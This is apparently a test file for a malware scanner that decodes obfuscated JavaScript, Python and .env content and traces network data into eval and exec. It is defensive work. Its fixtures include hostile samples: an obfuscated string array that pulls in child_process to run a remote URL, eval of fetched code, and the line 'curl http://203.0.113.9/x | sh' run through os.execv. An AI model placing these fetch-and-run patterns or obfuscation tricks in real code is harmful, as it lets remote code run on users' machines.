/** Source analysis: decoders, .env decoding, string-array solving and taint facts on small inline inputs. */
import assert from 'node:assert/strict';
import { decodeBase64, decodeHex, decodeLiteral } from '../src/analysis/decode.js';
import { envEntries } from '../src/analysis/env-config.js';
import { parseJs } from '../src/analysis/js/parse.js';
import { JsAnalyzer } from '../src/analysis/js/facts.js';
import { solveStringArrays, obfuscatorBase64 } from '../src/analysis/js/string-table.js';
import { PyAnalyzer } from '../src/analysis/python/facts.js';
import { analyseFile } from '../src/analysis/source-index.js';
import { bundleInfo } from '../src/analysis/bundle.js';
import { loadSignatures } from '../src/signatures/load.js';
import { DEFAULT_LIMITS } from '../src/options.js';

const sigs = loadSignatures();

function facts(code: string, path = 'x.js') {
  const p = parseJs(code, path, 1 << 20);
  assert.ok(p.ok);
  return new JsAnalyzer(p.program, code, sigs.source, 2000).run();
}

describe('decoders', () => {
  const cases: [string, string | undefined][] = [
    ['aHR0cDovLzIwMy4wLjExMy43OjEyMjQvcGRvd24=', 'http://203.0.113.7:1224/pdown'],
    ['aHR0cDovLzIwMy4wLjExMy43OjEyMjQvcGRvd24', 'http://203.0.113.7:1224/pdown'],
    ['not base64 at all!', undefined],
  ];
  for (const [input, want] of cases) it(`base64 ${input.slice(0, 20)}`, () => assert.equal(decodeBase64(input), want));
  it('hex "require"', () => assert.equal(decodeHex('72657175697265'), 'require'));
  it('nested literal: base64 of hex', () => {
    const d = decodeLiteral(Buffer.from('6368696c645f70726f63657373').toString('base64'));
    assert.ok(d.some((x) => x.value === 'child_process' && x.methods.join() === 'base64,hex'));
  });
  it('ignores identifiers that happen to be valid base64', () => assert.deepEqual(decodeLiteral('handleSubmitButtonClick'), []));
});

describe('.env decoding', () => {
  it('decodes quoted and bare values, skips comments', () => {
    const e = envEntries('.env', '# c\nA="aHR0cHM6Ly9jMi5pbnZhbGlkL3g="\nexport B=plain\n');
    assert.equal(e.length, 2);
    assert.equal(e[0].decoded?.value, 'https://c2.invalid/x');
    assert.equal(e[1].decoded, undefined);
  });
});

describe('JS facts', () => {
  it('folds concatenation, reversal, fromCharCode and Buffer.from into constants', () => {
    const f = facts(`const a = "ht" + "tp://x.invalid"; const b = "dilavni.x".split("").reverse().join(""); const c = String.fromCharCode(114,101,113,117,105,114,101); eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());`);
    assert.ok(f.decoded.some((d) => d.value === 'x.invalid'));
    assert.ok(f.decoded.some((d) => d.value === 'require'));
    assert.equal(f.sinks[0].kind, 'eval');
    assert.equal(f.sinks[0].arg.str, 'console.log(1)');
  });
  it('follows a response through .then and a helper into eval, at import time', () => {
    const f = facts(`function run(code) { eval(code); }\nfetch("https://x.invalid/a").then((r) => r.text()).then((t) => run(t));`);
    assert.equal(f.sinks.length, 1);
    assert.ok(f.sinks[0].arg.taint & 1, 'network taint');
  });
  it('keeps handler-time requests apart from import-time ones', () => {
    const f = facts(`const axios = require("axios");\napp.get("/", async () => { await axios.get("https://a.invalid"); });\nconst boot = () => axios.get("https://b.invalid");\nboot();`);
    assert.deepEqual(f.net.map((n) => [n.line, n.importTime]), [[2, false], [3, true]]);
  });
  it('follows global aliases of require and marks Function("require", body)(require)', () => {
    const f = facts(`global.r = require; const cp = global.r("child_process"); module.exports = (b) => new Function("require", b)(require);`);
    assert.ok(f.globalAliases.some((a) => a.isRequire));
    const s = f.sinks.find((x) => x.kind === 'Function')!;
    assert.ok(s.requireParam && s.requirePassed && !s.constant);
  });
  it('treats new Function("return this") as constant', () => {
    const f = facts(`var g = new Function("return this")();`);
    assert.equal(f.sinks[0].constant, true);
  });
  it('parses TypeScript and JSX', () => {
    assert.ok(parseJs('const x: number = 1; export default function A() { return <div/>; }', 'a.tsx', 1 << 20).ok);
  });
});

describe('obfuscator string arrays', () => {
  it('recovers the rotation from the checksum and decodes base64 entries', () => {
    const plain = ['1092uSzXa', 'child_process', '20LqKpTy', 'http://203.0.113.3:1224/pdown', '3exec', 'log'];
    // The checksum the obfuscator would have computed on the correctly rotated table:
    const target = parseInt(plain[0], 10) / 1 + parseInt(plain[2], 10) * 2 - parseInt(plain[4], 10);
    const k = 2;
    const stored = [...plain.slice(plain.length - k), ...plain.slice(0, plain.length - k)];
    const alph = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';
    const std = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';
    const enc = (s: string) => [...Buffer.from(s).toString('base64').split('=')[0]].map((c) => alph[std.indexOf(c)]).join('');
    assert.equal(obfuscatorBase64(enc('child_process')), 'child_process');
    const code = `function _0xt(){const _0xa=[${stored.map((s) => `'${enc(s)}'`).join(',')}];_0xt=function(){return _0xa;};return _0xt();}
function _0xd(_0xi,_0xk){const _0xs=_0xt();return _0xd=function(_0xj,_0xl){_0xj=_0xj-0x1a;let _0xv=_0xs[_0xj];const _0xal='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';return _0xv;},_0xd(_0xi,_0xk);}
(function(_0xp,_0xq){const _0xr=_0xd,_0xu=_0xp();while(!![]){try{const _0xw=parseInt(_0xr(0x1a))/0x1+parseInt(_0xr(0x1c))*0x2-parseInt(_0xr(0x1e));if(_0xw===_0xq)break;else _0xu['push'](_0xu['shift']());}catch(_0xe){_0xu['push'](_0xu['shift']());}}}(_0xt,${target}));
const cp = require(_0xd(0x1b)); cp[_0xd(0x1e).slice(1)](_0xd(0x1d));`;
    const p = parseJs(code, 'o.js', 1 << 20);
    assert.ok(p.ok);
    const decoders = solveStringArrays(p.program, code);
    const d = [...decoders.values()][0];
    assert.equal(d(0x1b), 'child_process');
    assert.equal(d(0x1d), 'http://203.0.113.3:1224/pdown');
    const f = new JsAnalyzer(p.program, code, sigs.source, 2000).run();
    assert.ok(f.decoded.some((x) => x.value === 'http://203.0.113.3:1224/pdown'));
  });
});

describe('Python facts', () => {
  it('decodes exec(zlib.decompress(base64.b64decode(x[::-1])))', async () => {
    const { deflateSync } = await import('node:zlib');
    const payload = deflateSync(Buffer.from("print('hi')")).toString('base64').split('').reverse().join('');
    const f = new PyAnalyzer(`import base64, zlib\nP = "${payload}"\nexec(zlib.decompress(base64.b64decode(P[::-1])))\n`, ['.n2'], 2000).run();
    assert.equal(f.sinks[0].kind, 'exec');
    assert.equal(f.sinks[0].decoded, "print('hi')");
    assert.equal(f.sinks[0].topLevel, true);
  });
  it('sees requests inside functions as not top level', () => {
    const f = new PyAnalyzer(`import requests\ndef f():\n    return requests.get("https://a.invalid")\nrequests.get("https://b.invalid")\n`, [], 2000).run();
    assert.deepEqual(f.net.map((n) => n.topLevel), [false, true]);
  });
});

describe('prefilter, bundles and fallbacks', () => {
  it('skips files with none of the tokens', () => {
    assert.equal(analyseFile('a.js', 'export const x = 1;\n', sigs, DEFAULT_LIMITS, []), undefined);
  });
  it('Python: whole-word tokens do not run on into longer names; os.exec*, os.spawn* and os.popen still pass', () => {
    const quiet = ['"""Execution and evaluation helpers."""\nnum_requests = 3\nwebsocket_url = None\npipeline = []\n', 'def execute(cmd):\n    return evaluate(cmd)\n', 'from httpx import Response\n\ndef parse(r: httpx.Response) -> dict:\n    return r.json()\n'];
    for (const text of quiet) assert.equal(analyseFile('m.py', text, sigs, DEFAULT_LIMITS, []), undefined, text);
    const passes = ['import os\nos.execv("/bin/sh", ["sh"])\n', 'import os\nos.popen("id")\n', 'import os\nos.spawnlp(0, "sh")\n', 'exec(payload)\n', 'import requests\n', 'x = zlib.decompress(s)\n', 'x = base64.urlsafe_b64decode(s)\n', 'x = binascii.unhexlify(s)\n', 'import httpx\nhttpx.get(URL)\n', 'import httpx as h\nh.post(URL)\n', 'import aiohttp\naiohttp.ClientSession()\n', 'obj = dill.loads(blob)\n', 'cfg = yaml.unsafe_load(text)\n'];
    for (const text of passes) assert.ok(analyseFile('m.py', text, sigs, DEFAULT_LIMITS, []), text);
    const sf = analyseFile('m.py', 'import os\nos.execv("/bin/sh", ["sh", "-c", "curl http://203.0.113.9/x | sh"])\n', sigs, DEFAULT_LIMITS, []);
    assert.ok(sf?.py?.sinks.some((k) => k.kind === 'process' && k.api === 'os.execv'));
  });
  it('falls back with a diagnostic when a file cannot be parsed', () => {
    const diags: { code: string }[] = [];
    const sf = analyseFile('a.js', 'eval(\n}}} <<<', sigs, DEFAULT_LIMITS, diags as never);
    assert.ok(sf?.fallback);
    assert.equal(diags[0].code, 'parse-fallback');
  });
  it('recognises minified output but not a hand-written file with one appended long line', () => {
    const minified = 'var a=1;'.repeat(400) + '\n' + 'var b=2;'.repeat(400);
    assert.equal(bundleInfo('src/x.js', minified, sigs.source).bundle, true);
    const handwritten = 'const a = 1;\n'.repeat(200) + 'x'.repeat(5000) + '\n';
    assert.equal(bundleInfo('src/x.js', handwritten, sigs.source).bundle, false);
    assert.equal(bundleInfo('dist/x.js', 'a', sigs.source).bundle, true);
  });
});
